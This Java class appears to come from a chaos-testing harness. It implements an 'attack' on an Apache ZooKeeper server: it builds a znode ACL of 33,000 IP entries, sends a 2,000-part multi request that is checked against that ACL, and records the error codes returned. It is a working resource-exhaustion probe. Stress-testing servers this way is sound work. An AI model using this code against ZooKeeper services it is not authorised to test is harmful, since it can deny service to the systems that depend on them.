package io.oarlock.chaos.hostile.client;

import io.oarlock.chaos.hostile.subject.Attack;
import io.oarlock.chaos.hostile.subject.RawClient;
import io.oarlock.chaos.hostile.subject.RequestBytes;
import io.oarlock.chaos.hostile.subject.Subject;
import java.io.IOException;
import java.util.List;
import java.util.stream.IntStream;
import org.apache.zookeeper.ZooDefs;
import org.apache.zookeeper.ZooDefs.OpCode;
import org.apache.zookeeper.data.ACL;
import org.apache.zookeeper.data.Id;

/** Every part of a multi goes through the ACL of its znode. */
public final class AclOfAddresses implements Attack {

    private static final int ENTRIES = 33_000;
    private static final int CHECKS = 2_000;
    private static final String OWN = "127.0.0.0/8";
    private static final String PATH = "/of-addresses";

    @Override
    public String name() {
        return "acl-of-addresses";
    }

    @Override
    public String description() {
        return "an ACL of 33,000 addresses, and a multi of 2,000 parts that are judged by it";
    }

    @Override
    public void launch(Subject subject) throws IOException {
        RawClient client = subject.client();
        // Nobody's address but the last one: judged from the first to the last.
        List<ACL> acl = IntStream.range(0, ENTRIES)
                .mapToObj(i -> new ACL(ZooDefs.Perms.ALL, new Id("ip", i < ENTRIES - 1 ? address(i) : OWN)))
                .toList();
        int error = client.ask(OpCode.create, RawClient.creation(PATH, new byte[0], acl, 0))
                .error();
        subject.fact("create is answered with", error);
        RequestBytes multi = new RequestBytes();
        for (int i = 0; i < CHECKS; i++) {
            multi.part(OpCode.setData).text(PATH).buffer(new byte[0]).number(-1);
        }
        subject.fact(
                "multi is answered with",
                client.ask(OpCode.multi, multi.endOfMulti()).error());
    }

    private static String address(int number) {
        return "10." + (number >> 16) + "." + (number >> 8 & 0xff) + "." + (number & 0xff);
    }
}
